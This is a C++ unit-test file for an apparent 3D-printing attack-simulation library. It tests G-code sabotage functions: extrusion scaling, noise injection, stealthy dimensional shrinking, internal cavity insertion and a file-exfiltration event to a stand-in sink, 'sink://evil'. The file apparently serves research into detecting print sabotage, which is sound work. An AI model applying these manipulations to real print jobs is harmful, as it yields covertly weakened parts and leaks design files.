#include "fdmlab/attack.hpp"

#include <cmath>

#include "doctest.h"
#include "fdmlab/errors.hpp"
#include "fdmlab/fixtures.hpp"
#include "fdmlab/gcode.hpp"
#include "support/oracles.hpp"

using namespace fdmlab;
using namespace fdmlab::attack;
using namespace fdmlab::gcode;

static GcodeProgram cube(bool relative_e = false) {
  fixtures::CubeParams p;
  p.relative_e = relative_e;
  return parse_program(fixtures::build_cube_gcode(p));
}

TEST_CASE("relative-mode E literal scales directly") {
  GcodeProgram p = parse_program("M83\nG1 X5 E1.0\n");
  auto [q, audit] = scale_extrusion(p, 0.5);
  CHECK(serialize_line(q.lines[1]) == "G1 X5 E0.5");
  CHECK(audit.modified_lines.size() == 1);
}

TEST_CASE("factor 1.0 is the identity with a zero-touch audit") {
  for (bool rel : {false, true}) {
    GcodeProgram p = cube(rel);
    auto [q, audit] = scale_extrusion(p, 1.0);
    CHECK(serialize_program(q) == serialize_program(p));
    CHECK(audit.touch_count() == 0);
    CHECK(audit.digest_before == audit.digest_after);
  }
}

TEST_CASE("mass law: total extrusion scales by exactly the factor") {
  for (bool rel : {false, true}) {
    GcodeProgram p = cube(rel);
    double base = total_extrusion(p);
    for (double f : {0.716, 0.72, 1.49, 0.5, 2.0}) {
      auto [q, audit] = scale_extrusion(p, f);
      CHECK(std::abs(total_extrusion(q) - f * base) <= 1e-9);
      CHECK(audit.extrusion_delta_mm ==
            doctest::Approx((f - 1.0) * base).epsilon(1e-9));
    }
  }
}

TEST_CASE("audit invariant: zero touches iff digests equal") {
  GcodeProgram p = cube();
  auto [q1, a1] = scale_extrusion(p, 1.0);
  CHECK((a1.touch_count() == 0) == (a1.digest_before == a1.digest_after));
  auto [q2, a2] = scale_extrusion(p, 0.716);
  CHECK(a2.touch_count() > 0);
  CHECK(a2.digest_before != a2.digest_after);
}

TEST_CASE("region-restricted scaling re-anchors downstream extrusion") {
  GcodeProgram p = cube();
  Region region{Region::Kind::Layers, 5, 10};
  auto [q, audit] = scale_extrusion(p, 0.5, region);
  // outside the region each layer's extrusion is unchanged
  LayerIndex idx = build_layer_index(p);
  for (std::size_t k = 0; k < idx.size(); ++k) {
    double before = total_extrusion(p, idx[k].z - 0.01, idx[k].z + 0.01);
    double after = total_extrusion(q, idx[k].z - 0.01, idx[k].z + 0.01);
    if (k + 1 >= 5 && k + 1 <= 10)
      CHECK(after == doctest::Approx(0.5 * before).epsilon(1e-12));
    else
      CHECK(after == before);
  }
  CHECK(audit.inserted_lines.size() == 1);  // the G92 re-anchor
}

TEST_CASE("empty region is a warned no-op") {
  GcodeProgram p = cube();
  Region region{Region::Kind::Lines, 0, 4};  // preamble: no E lines
  auto [q, audit] = scale_extrusion(p, 0.5, region);
  CHECK(audit.touch_count() == 0);
  CHECK(!audit.warnings.empty());
  CHECK(serialize_program(q) == serialize_program(p));
}

TEST_CASE("noise: rate 0 is the identity") {
  GcodeProgram p = cube();
  auto [q, audit] = inject_noise(p, 0.0, 0.3, 42);
  CHECK(serialize_program(q) == serialize_program(p));
  CHECK(audit.touch_count() == 0);
}

TEST_CASE("noise: pair count matches the rate formula and reruns are byte-identical") {
  GcodeProgram p = cube();
  std::size_t motion = interpret(p).steps.size();
  auto [q1, a1] = inject_noise(p, 10.0, 0.3, 42);
  auto [q2, a2] = inject_noise(p, 10.0, 0.3, 42);
  std::size_t expect_pairs = motion / 10;  // floor(M * 10 / 100)
  CHECK(a1.inserted_lines.size() == 2 * expect_pairs);
  CHECK(serialize_program(q1) == serialize_program(q2));
  CHECK(a1.digest_after == a2.digest_after);
  auto [q3, a3] = inject_noise(p, 10.0, 0.3, 43);
  CHECK(serialize_program(q1) != serialize_program(q3));

  // recount via parse + line diff, the long way
  GcodeProgram before = parse_program(serialize_program(p));
  GcodeProgram after = parse_program(serialize_program(q1));
  CHECK(after.lines.size() - before.lines.size() == 2 * expect_pairs);
}

TEST_CASE("noise: tiny programs still get one pair when rate > 0") {
  GcodeProgram p = parse_program("G90\nG28\nG1 X5 E0.2\n");
  auto [q, audit] = inject_noise(p, 1.0, 0.2, 7);
  CHECK(audit.inserted_lines.size() == 2);
}

TEST_CASE("noise conservation: extrusion and final position unchanged") {
  GcodeProgram p = cube();
  double base = total_extrusion(p);
  auto fin = [](const GcodeProgram& g) {
    return interpret(g).steps.back().after.position;
  };
  Vec3 f0 = fin(p);
  for (std::uint64_t seed : {1ULL, 2ULL, 3ULL, 99ULL}) {
    auto [q, audit] = inject_noise(p, 25.0, 0.4, seed);
    CHECK(total_extrusion(q) == base);  // G0 carries no E
    Vec3 f1 = fin(q);
    CHECK(f1.x == f0.x);  // absolute-mode return restores exact literals
    CHECK(f1.y == f0.y);
    CHECK(f1.z == f0.z);
  }
}

TEST_CASE("noise: jitter displacement bounded by amplitude per axis") {
  GcodeProgram p = cube();
  const double amp = 0.3;
  auto [q, audit] = inject_noise(p, 50.0, amp, 11);
  InterpretResult before = interpret(p);
  InterpretResult after = interpret(q);
  // every inserted first-leg move stays within amp of its anchor
  for (std::size_t k = 0; k + 1 < audit.inserted_lines.size(); k += 2) {
    std::size_t li = audit.inserted_lines[k];
    const MotionStep* leg = nullptr;
    for (const auto& s : after.steps)
      if (s.line_index == li) leg = &s;
    REQUIRE(leg != nullptr);
    CHECK(std::abs(leg->after.position.x - leg->from.x) <= amp);
    CHECK(std::abs(leg->after.position.y - leg->from.y) <= amp);
    CHECK(leg->e_delta == 0.0);
  }
  CHECK(after.steps.size() > before.steps.size());
}

TEST_CASE("noise in relative mode returns home within fp wobble") {
  GcodeProgram p = parse_program(
      "G91\nG28\nG1 X10 E0.5\nG1 Y10 E0.5\nG1 X-10 E0.5\nG1 Y-10 E0.5\n");
  Vec3 f0 = interpret(p).steps.back().after.position;
  auto [q, audit] = inject_noise(p, 40.0, 0.3, 5);
  Vec3 f1 = interpret(q).steps.back().after.position;
  CHECK(std::abs(f1.x - f0.x) <= 1e-12);
  CHECK(std::abs(f1.y - f0.y) <= 1e-12);
  CHECK(total_extrusion(q) == total_extrusion(p));
}

TEST_CASE("extruding jitter adds mass and stays deterministic") {
  GcodeProgram p = cube();
  auto [q1, a1] = inject_noise(p, 10.0, 0.3, 42, {}, true);
  auto [q2, a2] = inject_noise(p, 10.0, 0.3, 42, {}, true);
  CHECK(total_extrusion(q1) > total_extrusion(p));
  CHECK(serialize_program(q1) == serialize_program(q2));
  // downstream absolute-E bookkeeping still consistent: deltas outside the
  // jitter pairs are untouched, so overall growth equals the jitter mass
  CHECK(total_extrusion(q1) - total_extrusion(p) ==
        doctest::Approx(a1.extrusion_delta_mm));
}

TEST_CASE("dimensional identity: unit scale means zero modifications") {
  GcodeProgram p = cube();
  auto [q, audit] = scale_dimensions(p, {1.0, 1.0, 1.0});
  CHECK(audit.touch_count() == 0);
  CHECK(audit.digest_before == audit.digest_after);
}

TEST_CASE("dimensional linearity: extents scale by the factors") {
  for (bool rel : {false, true}) {
    GcodeProgram p = cube(rel);
    BoundingBox a = bounding_box(p);
    auto [q, audit] = scale_dimensions(p, {0.98, 0.98, 1.0});
    BoundingBox b = bounding_box(q);
    CHECK(std::abs((b.max.x - b.min.x) - 0.98 * (a.max.x - a.min.x)) <= 1e-9);
    CHECK(std::abs((b.max.y - b.min.y) - 0.98 * (a.max.y - a.min.y)) <= 1e-9);
    CHECK((b.max.z - b.min.z) == (a.max.z - a.min.z));
    CHECK(total_extrusion(q) == total_extrusion(p));  // E untouched
  }
}

TEST_CASE("dimensional z-scale on a middle slab leaves the rest byte-identical") {
  GcodeProgram p = cube();
  Region region{Region::Kind::Layers, 9, 16};
  auto [q, audit] = scale_dimensions(p, {1.0, 1.0, 0.9}, region);
  REQUIRE(p.lines.size() == q.lines.size());
  LineRange r = resolve_region(p, region);
  for (std::size_t i = 0; i < p.lines.size(); ++i) {
    bool inside = i >= r.first && i <= r.last;
    if (!inside)
      CHECK(serialize_line(q.lines[i]) == serialize_line(p.lines[i]));
  }
  // only Z-carrying lines inside the slab changed
  for (std::size_t i : audit.modified_lines) {
    CHECK(i >= r.first);
    CHECK(i <= r.last);
    CHECK(p.lines[i].find('Z') != nullptr);
  }
  CHECK(!audit.modified_lines.empty());
}

TEST_CASE("pivot fixed point: scaling about a corner keeps that corner") {
  GcodeProgram p = parse_program(
      "G90\nG0 Z0.2\nG0 X10 Y10\nG1 X20 Y10 E1\nG1 X20 Y20 E2\nG1 X10 Y20 "
      "E3\nG1 X10 Y10 E4\n");
  auto [q, audit] =
      scale_dimensions(p, {0.5, 0.5, 1.0}, {}, std::make_pair(10.0, 10.0));
  BoundingBox b = bounding_box(q);
  CHECK(b.min.x == 10.0);
  CHECK(b.min.y == 10.0);
  CHECK(b.max.x == doctest::Approx(15.0));
  CHECK(b.max.y == doctest::Approx(15.0));
}

TEST_CASE("cavity: slab extrusion goes to zero, outside bit-identical") {
  GcodeProgram p = cube();
  double before_slab = total_extrusion(p, 2.0, 4.0);
  double before_total = total_extrusion(p);
  auto [q, audit] = insert_cavity(p, 2.0, 4.0);
  CHECK(total_extrusion(q, 2.0, 4.0) == 0.0);
  CHECK(before_slab > 0.0);
  CHECK(std::abs((before_total - total_extrusion(q)) - before_slab) <= 1e-9);

  // per-layer extrusion outside the interval unchanged to the last bit
  LayerIndex idx = build_layer_index(p);
  for (const auto& e : idx) {
    if (e.z >= 2.0 && e.z <= 4.0) continue;
    CHECK(total_extrusion(q, e.z - 0.01, e.z + 0.01) ==
          total_extrusion(p, e.z - 0.01, e.z + 0.01));
  }
}

TEST_CASE("cavity on 3-layer fixture empties exactly layer 2") {
  fixtures::CubeParams cp;
  cp.layers = 3;
  GcodeProgram p = parse_program(fixtures::build_cube_gcode(cp));
  auto [q, audit] = insert_cavity(p, 0.35, 0.45);  // layer 2 at z=0.4
  CHECK(total_extrusion(q, 0.35, 0.45) == 0.0);
  CHECK(total_extrusion(q, 0.0, 0.3) == total_extrusion(p, 0.0, 0.3));
  CHECK(total_extrusion(q, 0.5, 1.0) == total_extrusion(p, 0.5, 1.0));
}

TEST_CASE("cavity over everything leaves a travel-only program") {
  GcodeProgram p = cube();
  auto [q, audit] = insert_cavity(p, 0.0, 1e18);
  CHECK(total_extrusion(q) == 0.0);
  CHECK(!audit.bbox_valid);  // nothing extrudes afterwards
}

TEST_CASE("cavity: relative-mode program needs no re-anchor") {
  GcodeProgram p = cube(true);
  auto [q, audit] = insert_cavity(p, 2.0, 4.0);
  CHECK(audit.inserted_lines.empty());
  CHECK(total_extrusion(q, 2.0, 4.0) == 0.0);
  LayerIndex idx = build_layer_index(p);
  for (const auto& e : idx) {
    if (e.z >= 2.0 && e.z <= 4.0) continue;
    CHECK(total_extrusion(q, e.z - 0.01, e.z + 0.01) ==
          total_extrusion(p, e.z - 0.01, e.z + 0.01));
  }
}

TEST_CASE("cavity removed mass equals the pre-attack slab oracle") {
  std::string gen = fixtures::build_cube_gcode();
  GcodeProgram p = parse_program(gen);
  oracle::Run R = oracle::run_text(gen);
  auto [q, audit] = insert_cavity(p, 2.0, 4.0);
  CHECK(std::abs(-audit.extrusion_delta_mm - R.slab_e(2.0, 4.0)) <= 1e-9);
}

TEST_CASE("cavity with an interval missing all layers is a warned no-op") {
  GcodeProgram p = cube();
  auto [q, audit] = insert_cavity(p, 50.0, 60.0);
  CHECK(audit.touch_count() == 0);
  CHECK(!audit.warnings.empty());
  CHECK_THROWS_AS(insert_cavity(p, 4.0, 2.0), ArgError);
}

TEST_CASE("exfiltration: digest matches source, repeatable") {
  std::string bytes = fixtures::build_cube_gcode();
  ExfilEvent e1 = exfiltrate_bytes(bytes, 12.5, "cube.gcode", "sink://evil");
  ExfilEvent e2 = exfiltrate_bytes(bytes, 99.0, "cube.gcode", "sink://evil");
  CHECK(e1.digest == e2.digest);
  CHECK(e1.size_bytes == bytes.size());
  CHECK(e1.timestamp_s == 12.5);

  GcodeProgram p = parse_program(bytes);
  AttackSpec spec;
  spec.kind = AttackKind::Exfiltration;
  auto [q, audit] = apply_attack(p, spec);
  CHECK(audit.touch_count() == 0);
  CHECK(audit.digest_before == audit.digest_after);
}

TEST_CASE("attack spec JSON roundtrip and validation") {
  AttackSpec s = parse_attack_spec_json(
      R"({"kind":"under_extrusion","factor":0.716,"region":{"layers":[3,7]}})");
  CHECK(s.kind == AttackKind::UnderExtrusion);
  CHECK(s.factor == 0.716);
  CHECK(s.region.kind == Region::Kind::Layers);
  CHECK(s.region.a == 3);

  AttackSpec d = parse_attack_spec_json(R"({"kind":"dimensional_change"})");
  CHECK(d.sx == 0.98);  // stealth default

  CHECK_THROWS_AS(parse_attack_spec_json("{"), DataError);
  CHECK_THROWS_AS(parse_attack_spec_json(R"({"kind":"warp_drive"})"), ArgError);
  CHECK_THROWS_AS(
      parse_attack_spec_json(R"({"kind":"cavity_insertion","z_range":[4,2]})"),
      ArgError);
  CHECK_THROWS_AS(
      parse_attack_spec_json(R"({"kind":"noise_injection","rate":-1})"),
      ArgError);
}

TEST_CASE("under/over defaults come from the calibrated weights") {
  GcodeProgram p = cube();
  double base = total_extrusion(p);
  AttackSpec under;
  under.kind = AttackKind::UnderExtrusion;
  auto [qu, au] = apply_attack(p, under);
  CHECK(total_extrusion(qu) == doctest::Approx(0.72 * base).epsilon(1e-9));
  AttackSpec over;
  over.kind = AttackKind::OverExtrusion;
  auto [qo, ao] = apply_attack(p, over);
  CHECK(total_extrusion(qo) == doctest::Approx(1.49 * base).epsilon(1e-9));
}

TEST_CASE("mutation determinism across kinds (byte-reproducible)") {
  GcodeProgram p = cube();
  for (const char* spec_text : {
           R"({"kind":"under_extrusion","factor":0.716})",
           R"({"kind":"over_extrusion"})",
           R"({"kind":"noise_injection","rate":10,"amplitude":0.3,"seed":42})",
           R"({"kind":"dimensional_change","scale":[0.98,0.98,0.98]})",
           R"({"kind":"cavity_insertion","z_range":[2,4]})",
       }) {
    AttackSpec spec = parse_attack_spec_json(spec_text);
    auto [q1, a1] = apply_attack(p, spec);
    auto [q2, a2] = apply_attack(p, spec);
    CHECK(serialize_program(q1) == serialize_program(q2));
    CHECK(a1.digest_after == a2.digest_after);
  }
}
